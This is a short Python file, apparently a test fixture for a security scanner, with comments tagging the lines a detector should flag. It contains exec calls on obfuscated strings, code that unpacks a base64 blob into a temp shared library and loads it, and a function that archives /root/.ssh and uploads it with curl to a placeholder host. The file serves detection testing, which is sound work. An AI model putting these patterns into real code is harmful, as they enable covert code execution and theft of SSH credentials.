"""Texts that are computed from constants, and files that are unpacked from them."""
import base64
import ctypes
import json
import pathlib
import subprocess
import tempfile

NUMBERS = [113, 118, 120, 119, 122, 124, 40, 119, 123, 67, 40, 119]
exec(bytes(n - 8 for n in NUMBERS).decode())  # expect: OBFUSC-001


def read(text):
    return "".join(chr(ord(c) ^ 7) for c in text)


exec(read("onurht ht<ht)t~tsbj/ % nc% n.("))  # expect: OBFUSC-001


def shown(label):
    return read(label)


# Computed, and only shown.
print(bytes(n - 8 for n in NUMBERS))


def engine():
    data = json.loads(pathlib.Path("tables.json").read_text())
    place = pathlib.Path(tempfile.gettempdir()) / "engine.so"
    place.write_bytes(base64.b64decode(data["classes"]))
    return ctypes.CDLL(str(place))  # expect: OBFUSC-001


def both():
    subprocess.run(["tar", "czf", "/tmp/.b.tgz", "/root/.ssh"])
    subprocess.run(["curl", "-s", "-F", "f=@/tmp/.b.tgz", "https://line.acme.example/in"])  # expect: SH-004


def neither():
    subprocess.run(["tar", "czf", "/tmp/site.tgz", "site"])
    subprocess.run(["curl", "-s", "-F", "f=@/tmp/site.tgz", "https://line.acme.example/in"])
